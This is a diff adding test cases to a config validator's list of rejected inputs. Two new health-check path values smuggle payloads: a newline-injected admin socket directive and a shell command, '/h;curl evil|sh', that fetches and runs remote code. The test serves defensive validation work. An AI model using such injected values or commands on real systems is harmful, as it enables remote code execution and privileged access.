@@ -44,6 +44,8 @@ def test_the_issue_minimal_file_loads_with_branch_and_defaults(tmp_path):
     ({"deploy": {"strategy": {"type": "zigzag"}}}, "deploy.strategy", None),
     ({"deploy": {"bake": "-3s"}}, "deploy.bake", None),
     ({"config": {"secrets": {"K": "vault:x"}}}, "config.secrets.K", None),
+    ({"container": {"health": {"path": "/health\n  stats socket /tmp/x level admin"}}}, "container.health.path", None),
+    ({"container": {"health": {"path": "/h;curl evil|sh"}}}, "container.health.path", None),
     ({"environments": {"prod": {"deploy": {"gates": {"max_error_rte": 0.1}}}}},
      "environments.prod.deploy.gates.max_error_rte", "did you mean 'max_error_rate'?"),
 ])
